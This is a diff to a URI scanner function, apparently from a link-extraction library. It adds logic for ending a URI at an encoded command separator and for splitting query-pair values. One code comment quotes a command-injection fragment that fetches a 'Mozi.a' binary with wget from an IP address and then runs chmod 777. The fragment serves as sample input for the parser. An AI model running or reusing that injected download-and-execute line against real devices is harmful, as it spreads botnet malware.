@@ -131,6 +131,7 @@ import {
 import { csvSeparatorAt } from "./csv-fields.js";
 import { gitKeyDot, gitSectionBefore } from "./git-config-keys.js";
 import { MORE_INPUT } from "./more-input.js";
+import { commandArgumentAt, commandArgumentEnd, nextPairAt, queryValueAt } from "./query-values.js";
 import { sentenceSuffixStart, sentenceWordAfterSlashes } from "./sentence-suffix.js";
 import { errorHeaderLineStart, framePositionStart } from "./stack-frames.js";
 import { itemOpensAt, stringContinuationAt, stringOpensLine } from "./string-literals.js";
@@ -324,10 +325,26 @@ export function scanBare(
   // the first byte read that may start a template's placeholder (mayStartPlaceholder; -1:
   // none)
   let tmplScan = -1;
+  // a shell command's argument in a query, its spaces encoded ("…;wget+http://192.0.2.14/Mozi.a;
+  // chmod+777+…"): the URI ends at the next encoded space or command separator
+  // (query-values.ts)
+  let runStop = stop;
+  let commandEnd = -1;
+  if (delimiter === "bare" && commandArgumentAt(buf, s, ctx.lo)) {
+    commandEnd = commandArgumentEnd(buf, c1, stop, n, final);
+    if (commandEnd === MORE_INPUT) return MORE;
+    if (commandEnd < runStop) runStop = commandEnd;
+  }
+  // 1 when the URI is the value of a "?name=" or "&name=" pair (queryValueAt)
+  let queryValue = UNKNOWN;
   for (;;) {
     // the run of plain URI characters, one table test per byte
-    while (i < stop && RUN[buf[i]!] === 1) i++;
+    while (i < runStop && RUN[buf[i]!] === 1) i++;
     if (i === encodedClose) break;
+    if (commandEnd >= 0 && i >= commandEnd) {
+      i = commandEnd;
+      break;
+    }
     if (i >= limit) {
       // grown past maxLength by reading on after a hyphen's line break: the URI ends at that
       // break instead (the hyphen "may or may not" be the URI's, 2396bis App. E) — read again
@@ -579,6 +596,22 @@ export function scanBare(
         // apostrophes below, once the host is known to follow the last "@"
         if (!final && n - i < MAX_REF) return MORE;
         if (endingReference(buf, i, n)) break;
+        // the URI is the value of a "?name=" or "&name=" pair, and holds no query of its own:
+        // the next pair's "&name=" is the outer query's (form encoding splits on "&", WHATWG
+        // URL §5.1): "?redirect_to=https://blog.example/wp-admin/&reauth=1". With a "?" of
+        // its own ("?u=https://x.example/?a=1&b=2") the "&" may be either's: left to the URI
+        if (queryValue !== 0 && i > c1) {
+          if (queryValue === UNKNOWN) queryValue = queryValueAt(buf, s, ctx.lo) ? 1 : 0;
+          if (queryValue === 1 && !inQuery) {
+            inQuery = hasQueryMark(buf, queryScan, i);
+            queryScan = i;
+          }
+          if (queryValue === 1 && !inQuery) {
+            const r = nextPairAt(buf, i, n);
+            if (r === MORE_INPUT && !final) return MORE;
+            if (r === 1) break;
+          }
+        }
         if (mailto && apostropheReferenceAt(buf, i, n)) {
           mailState = mailtoStateAfter(buf, mailScan, i, mailState);
           mailScan = i;
